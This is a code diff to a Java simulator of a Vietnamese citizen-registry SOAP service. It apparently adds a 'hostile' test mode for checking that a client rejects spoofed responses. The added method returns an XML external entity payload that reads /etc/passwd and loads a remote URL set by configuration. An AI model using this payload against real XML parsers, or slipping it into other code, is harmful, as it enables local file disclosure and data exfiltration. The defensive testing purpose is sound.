@@ -71,6 +71,9 @@ public class PopulationRegistrySimulator {
         if (faults.apply(SYSTEM)) {
             return ResponseEntity.status(503).contentType(MediaType.TEXT_PLAIN).body("Service Unavailable");
         }
+        if (faults.of(SYSTEM).mode() == SandboxFaults.Mode.HOSTILE) {
+            return soap(200, hostileAnswer());
+        }
         if (!tokens.accepts(authorization, customHeader)) {
             return soap(401, fault("Client", "Thiếu hoặc sai thông tin xác thực (invalid credentials)"));
         }
@@ -146,6 +149,15 @@ public class PopulationRegistrySimulator {
         }
         xml.append("</dc:TraCuuThongTinCongDanResponse></soapenv:Body></soapenv:Envelope>");
         return xml.toString();
+    }
+
+    /** An answer a spoofed registry might send: an external entity that would read a local file and call out. */
+    private String hostileAnswer() {
+        return "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY file SYSTEM \"file:///etc/passwd\">"
+                + "<!ENTITY % remote SYSTEM \"" + faults.of(SYSTEM).hostileUrl() + "\"> %remote;]>"
+                + "<soapenv:Envelope xmlns:soapenv=\"http://schemas.xmlsoap.org/soap/envelope/\" xmlns:dc=\"" + NS + "\">"
+                + "<soapenv:Body><dc:TraCuuThongTinCongDanResponse><dc:MaLoi>0</dc:MaLoi><dc:CongDan><dc:SoDinhDanh>&file;</dc:SoDinhDanh>"
+                + "</dc:CongDan></dc:TraCuuThongTinCongDanResponse></soapenv:Body></soapenv:Envelope>";
     }
 
     private static String fault(String code, String message) {
